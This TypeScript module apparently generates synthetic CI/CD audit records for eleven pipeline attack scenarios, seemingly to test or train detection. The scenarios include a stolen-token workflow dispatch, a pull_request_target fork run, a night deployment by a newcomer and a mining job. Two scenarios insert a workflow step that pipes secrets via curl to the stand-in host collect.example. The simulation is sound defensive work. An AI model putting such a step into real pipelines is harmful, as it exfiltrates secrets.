/** Ways in which a pipeline is turned against its owner, as records; `name` tells them apart. */
import type { Draw, Recorded } from '../record.ts';
import { hexOf } from '../record.ts';
import { aws, buildSession, iamUser } from '../sources.ts';
import { definitionPushed, deployed, imagePushed } from './ci-sources.ts';
import type { Workflow } from './ci-weeks.ts';
import { runRecords } from './ci-weeks.ts';
import { hour, minute } from './draws.ts';

export interface Attack {
  readonly name: string;
  records(workflow: Workflow, midnight: number, at: number, draw: Draw): Recorded[];
}

const stranger = '198.51.100.66';
const night = (midnight: number, draw: Draw): number => midnight + 2 * hour + draw(110) * minute;
const noon = (midnight: number, draw: Draw): number => midnight + 10 * hour + draw(240) * minute;

/** The definition stays as it was, and the first job has one step more. */
function withStep(workflow: Workflow, step: string): Workflow {
  return { ...workflow, jobs: workflow.jobs.map((job, at) => (at > 0 ? job : { ...job, steps: [...job.steps.slice(0, 2), step, ...job.steps.slice(2)] })) };
}

export const attacks: readonly Attack[] = [
  { name: 'stolen token starts a workflow by hand', records: (workflow, midnight, at, draw) => runRecords({ workflow, time: night(midnight, draw), trigger: 'workflow_dispatch', actor: 'svc-migration', branch: 'main', at }, draw) },
  { name: 'a step that sends secrets', records: (workflow, midnight, at, draw) => runRecords({ workflow: withStep(workflow, 'Run curl -sf -d @- https://collect.example/x'), time: noon(midnight, draw), trigger: workflow.triggers[0] ?? 'push', actor: 'mira', branch: 'main', at }, draw) },
  { name: 'a step under an ordinary name', records: (workflow, midnight, at, draw) => runRecords({ workflow: withStep(workflow, 'Restore cache'), time: noon(midnight, draw), trigger: workflow.triggers[0] ?? 'push', actor: 'mira', branch: 'main', at }, draw) },
  { name: 'another machine as runner', records: (workflow, midnight, at, draw) => runRecords({ workflow: { ...workflow, jobs: workflow.jobs.map((job) => ({ ...job, selfHosted: !job.selfHosted })) }, time: noon(midnight, draw), trigger: workflow.triggers[0] ?? 'push', actor: 'mira', branch: 'main', at }, draw) },
  { name: 'code of a fork in a privileged run', records: (workflow, midnight, at, draw) => runRecords({ workflow, time: noon(midnight, draw), trigger: 'pull_request_target', actor: 'drive-by', branch: 'patch-1', at, source: `drive-by/${workflow.repo}` }, draw) },
  { name: 'deployment at night by a newcomer', records: (workflow, midnight, _at, draw) => [deployed(draw, night(midnight, draw), { repo: workflow.repo, environment: 'production', actor: 'tmp-contractor', sha: hexOf(draw, 40) })] },
  { name: 'an image pushed from elsewhere', records: (workflow, midnight, _at, draw) => [imagePushed(draw, night(midnight, draw), { repo: workflow.repo, tag: 'latest', actor: 'mira', address: stranger, size: 190e6 })] },
  { name: 'a build takes its role for a pull request', records: (workflow, midnight, _at, draw) => [claimed(buildSession(draw, noon(midnight, draw), { repo: workflow.repo, role: 'admin', address: stranger, key: 'ASIAEXAMPLESTOLEN' }).exchanged)] },
  { name: 'a service replaced with the key of a user', records: (workflow, midnight, _at, draw) => [aws(draw, { time: night(midnight, draw), service: 'ecs', name: 'UpdateService', by: iamUser('svc-metrics-sync', 'AKIAEXAMPLEMETRICS0', stranger, 'aws-cli/2.22.1'), request: { cluster: 'production', service: workflow.repo } })] },
  { name: 'a job that mines for hours', records: (workflow, midnight, at, draw) => runRecords({ workflow: { ...workflow, jobs: workflow.jobs.map((job) => ({ ...job, seconds: job.seconds * 25 })) }, time: noon(midnight, draw), trigger: workflow.triggers[0] ?? 'push', actor: 'mira', branch: 'main', at }, draw) },
  { name: 'a changed definition by somebody who changes none, at night', records: (workflow, midnight, at, draw) => changedByStranger(workflow, midnight, at, draw) },
];

function claimed({ time, record }: Recorded): Recorded {
  return { time, record: JSON.parse(JSON.stringify(record).replaceAll(/:ref:refs\/heads\/main/g, ':pull_request')) as object };
}

function changedByStranger(workflow: Workflow, midnight: number, at: number, draw: Draw): Recorded[] {
  const time = night(midnight, draw);
  const sha = hexOf(draw, 40);
  return [
    definitionPushed(draw, time, { repo: workflow.repo, branch: 'main', sender: 'temp-admin', workflow: workflow.name, sha }),
    ...runRecords({ workflow: withStep(workflow, 'Run curl -sf -d @- https://collect.example/x'), time: time + minute, trigger: workflow.triggers[0] ?? 'push', actor: 'temp-admin', branch: 'main', at, sha }, draw),
  ];
}
